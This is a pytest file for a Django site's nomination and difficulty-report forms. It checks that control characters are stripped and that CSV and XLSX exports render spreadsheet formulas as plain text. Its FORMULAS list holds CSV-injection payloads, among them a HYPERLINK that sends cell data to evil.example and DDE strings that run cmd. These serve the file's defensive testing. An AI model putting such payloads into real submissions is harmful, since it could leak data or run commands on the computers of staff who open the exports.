"""What the public types cannot break the Board's exports or run in the Board's spreadsheets.

Control characters are cleaned on the way in (the real public forms), and exports survive what is
already stored (rows written straight to the database, as before the forms cleaned anything).
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from submissions.models import DifficultyReport, Nomination
from units.models import Unit

pytestmark = pytest.mark.django_db

NOMINATIONS = reverse("wagtailsnippets_submissions_nomination:list")
REPORTS = reverse("wagtailsnippets_submissions_difficultyreport:list")

# What a spreadsheet would run as a formula if it reached a cell unchanged (OWASP's list, a DDE
# payload, the full-width equals sign, a formula behind spaces).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+84+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
]


def content_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(content_of(response).decode("utf-8-sig"))))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(content_of(response))).active


def column(rows, heading):
    """The values under ``heading`` (the first row holds the headings)."""
    index = list(rows[0]).index(heading)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def ke_sach(newsroom):
    return Unit.objects.get(slug="huyen-ke-sach")


# On the way in ------------------------------------------------------------------------------------


def test_control_characters_typed_into_a_nomination_are_not_stored(
    client, nomination_page, nomination_data, board_member
):
    nomination_data.update(
        nominee_name="a\x01\x02",
        address="ấp Phú Hữu,\txã An Mỹ\r\nhuyện Kế Sách\x7f",
        achievements="Dòng một\r\nDòng hai\x0b có\tcột\x1f\x85",
        nominator_name="Nguyễn\x1b Văn Tâm\x9b",
    )

    response = client.post(nomination_page.url, nomination_data)

    assert response.status_code == 302
    nomination = Nomination.objects.get()
    assert nomination.nominee_name == "a"
    # One line: tabs and line breaks become spaces; a text area keeps its lines and tabs, as LF.
    assert nomination.address == "ấp Phú Hữu, xã An Mỹ huyện Kế Sách"
    assert nomination.achievements == "Dòng một\nDòng hai có\tcột"
    assert nomination.nominator_name == "Nguyễn Văn Tâm"

    client.force_login(board_member)
    export = client.get(NOMINATIONS, {"export": "xlsx"})
    assert export.status_code == 200
    assert column(list(xlsx_sheet(export).iter_rows(values_only=True)), "Tên người được giới thiệu") == ["a"]


def test_control_characters_typed_into_a_difficulty_report_are_not_stored(
    client, report_page, report_data, board_member
):
    report_data.update(subject="Chỉ tiêu\x1f quý II", description="Đề nghị\x1f hướng dẫn.\r\nXin cảm ơn.")

    assert client.post(report_page.url, report_data).status_code == 302

    report = DifficultyReport.objects.get()
    assert (report.subject, report.description) == ("Chỉ tiêu quý II", "Đề nghị hướng dẫn.\nXin cảm ơn.")
    client.force_login(board_member)
    assert client.get(REPORTS, {"export": "xlsx"}).status_code == 200


def test_a_text_area_counts_a_line_break_once(client, nomination_page, nomination_data):
    # Browsers count a line break as one character against maxlength but send it as CR LF.
    nomination_data["achievements"] = ("x" * 99 + "\r\n") * 49 + "x" * 100

    assert client.post(nomination_page.url, nomination_data).status_code == 302
    assert len(Nomination.objects.get().achievements) == 5000


# What is already stored ---------------------------------------------------------------------------


@pytest.fixture
def stored_nomination(ke_sach):
    """A nomination written before the forms cleaned control characters, full of formulas."""
    return Nomination.objects.create(
        nominee_name="Chị Sa\x01\x02 Rươl",
        unit=ke_sach,
        address=FORMULAS[1],
        achievements="Mô hình\x0b lúa - tôm\x1f\r\ncho 15 hộ.\x7f",
        nominator_name=FORMULAS[0],
        nominator_phone="+84 299 382",
        board_notes=FORMULAS[3],
        language_code="vi",
    )


@pytest.fixture
def stored_report(ke_sach):
    return DifficultyReport.objects.create(
        unit=ke_sach,
        reporter_name=FORMULAS[2],
        position="Chuyên viên\x1f",
        subject="\x1f" + FORMULAS[6],
        description="Khó khăn\x08 khi\x0c tính chỉ tiêu.",
        language_code="vi",
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_stored_in_a_nomination_come_out_of_the_csv_as_text(client, board_member, ke_sach, formula):
    Nomination.objects.create(
        nominee_name=formula, unit=ke_sach, achievements=formula, nominator_name="Lý Thị Mai", language_code="vi"
    )
    client.force_login(board_member)

    response = client.get(NOMINATIONS, {"export": "csv"})

    assert response.status_code == 200
    rows = csv_rows(response)
    assert column(rows, "Tên người được giới thiệu") == ["'" + formula]
    assert column(rows, "Thành tích") == ["'" + formula]
    assert column(rows, "Tên người giới thiệu") == ["Lý Thị Mai"]


def test_a_stored_nomination_exports_as_csv(client, board_member, stored_nomination):
    client.force_login(board_member)

    response = client.get(NOMINATIONS, {"export": "csv"})

    assert response.status_code == 200
    heading, row = csv_rows(response)
    values = dict(zip(heading, row, strict=True))
    assert values["Tên người được giới thiệu"] == "Chị Sa Rươl"
    assert values["Thành tích"] == "Mô hình lúa - tôm\r\ncho 15 hộ."
    assert values["Xã hoặc địa chỉ"] == "'" + FORMULAS[1]
    assert values["Tên người giới thiệu"] == "'" + FORMULAS[0]
    assert values["Điện thoại người giới thiệu"] == "'+84 299 382"
    assert values["Ghi chú của Ban"] == "'" + FORMULAS[3]
    assert values["Đơn vị"] == "Huyện Kế Sách"


def test_a_stored_nomination_exports_as_xlsx(client, board_member, stored_nomination):
    client.force_login(board_member)

    response = client.get(NOMINATIONS, {"export": "xlsx"})

    assert response.status_code == 200
    sheet = xlsx_sheet(response)
    heading, row = sheet.iter_rows()
    cells = {head.value: cell for head, cell in zip(heading, row, strict=True)}
    assert cells["Tên người được giới thiệu"].value == "Chị Sa Rươl"
    # XML reads CR LF as LF: the cell has the same two lines.
    assert cells["Thành tích"].value == "Mô hình lúa - tôm\ncho 15 hộ."
    # The text as typed, but text: never a formula.
    for name, text in (("Tên người giới thiệu", FORMULAS[0]), ("Ghi chú của Ban", FORMULAS[3])):
        assert cells[name].value == text
        assert cells[name].data_type != "f"
    assert all(cell.data_type != "f" for cell in row)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_a_stored_difficulty_report_exports(client, board_member, stored_report, export):
    client.force_login(board_member)

    response = client.get(REPORTS, {"export": export})

    assert response.status_code == 200
    if export == "csv":
        rows = csv_rows(response)
        assert column(rows, "Tiêu đề phản ánh") == ["'" + FORMULAS[6]]
        assert column(rows, "Tên người phản ánh") == ["'" + FORMULAS[2]]
        assert column(rows, "Nội dung khó khăn, vướng mắc") == ["Khó khăn khi tính chỉ tiêu."]
    else:
        sheet = xlsx_sheet(response)
        rows = list(sheet.iter_rows(values_only=True))
        assert column(rows, "Tiêu đề phản ánh") == [FORMULAS[6]]
        assert column(rows, "Tên người phản ánh") == [FORMULAS[2]]
        assert column(rows, "Chức vụ") == ["Chuyên viên"]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
